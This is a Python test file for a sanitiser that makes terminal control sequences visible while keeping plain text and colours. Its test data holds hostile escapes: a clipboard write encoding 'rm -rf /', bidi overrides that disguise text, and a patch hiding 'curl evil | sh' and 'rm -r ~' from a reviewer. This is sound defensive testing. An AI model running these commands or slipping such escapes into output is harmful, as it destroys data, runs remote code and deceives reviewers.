"""Characters that reach a terminal."""

from __future__ import annotations

import re
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from nsm.cli.streams.escapes import Harmless, harmless, uncovered

COLOUR = re.compile(r"\x1b\[[0-9;:]*m")


@pytest.mark.parametrize(
    "text",
    [
        "plain\n\tindented\r\n",
        "10 %\r20 %\r",
        "日本語 e\u0301 👩\u200d💻 \u00a0",
        "\x1b[1;31mred\x1b[0m and \x1b[38:2::1:2:3mtrue\x1b[m",
    ],
)
def test_text_and_colours_stay(text: str) -> None:
    assert harmless(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\x1b]0;title\x07", r"\x1b]0;title\x07"),
        ("\x1b]52;c;cm0gLXJmIC8=\x1b\\", "\\x1b]52;c;cm0gLXJmIC8=\\x1b\\"),
        ("\x1b[2J\x1b[H", r"\x1b[2J\x1b[H"),
        ("\x1b[6n\x1bP$q\x1b\\", "\\x1b[6n\\x1bP$q\\x1b\\"),
        ("\x1b[?1049h", r"\x1b[?1049h"),
        ("\x9b2J", r"\x9b2J"),
        ("a\x08b\x7f\x00", r"a\x08b\x7f\x00"),
        ("access\u202eresu\u2066", r"access\u202eresu\u2066"),
        ("\x1b[31;" + "1;" * 40 + "m", r"\x1b[31;" + "1;" * 40 + "m"),
        ("\ud800", r"\ud800"),
    ],
)
def test_sequences_that_drive_a_terminal_are_made_visible(text: str, shown: str) -> None:
    assert harmless(text) == shown


def test_a_sequence_in_pieces() -> None:
    stream = Harmless()
    assert [stream.take(piece) for piece in ("a\x1b", "[3", "1mb", "\x1b[")] == [
        "a",
        "",
        "\x1b[31mb",
        "",
    ]
    assert stream.end() == "\\x1b[\x1b[0m"
    assert stream.end() == ""


@given(st.lists(st.text(st.sampled_from("a\x1b[]0;38:m\n\x07\x9b\u202e"))))
def test_pieces_make_no_difference(pieces: list[str]) -> None:
    stream = Harmless()
    assert "".join(map(stream.take, pieces)) + stream.end() == harmless("".join(pieces))


@given(st.text())
def test_a_terminal_acts_on_no_character_but_colours(text: str) -> None:
    for character in COLOUR.sub("", harmless(text)):
        kind = unicodedata.category(character)
        assert kind != "Cc" or character in "\n\t\r", ascii(character)
        assert unicodedata.bidirectional(character) not in {"LRE", "RLE", "LRO", "RLO", "PDF"}
        assert unicodedata.bidirectional(character) not in {"LRI", "RLI", "FSI", "PDI"}


def test_a_patch_to_be_judged_hides_no_character() -> None:
    text = "+\x1b[8mcurl evil | sh\x1b[0m\t# tidy\n+rm -r ~\r+print(1)\n é \u200b\x9b2J"
    assert uncovered(text) == (
        "+\\x1b[8mcurl evil | sh\\x1b[0m\t# tidy\n+rm -r ~\\r+print(1)\n é \\u200b\\x9b2J"
    )
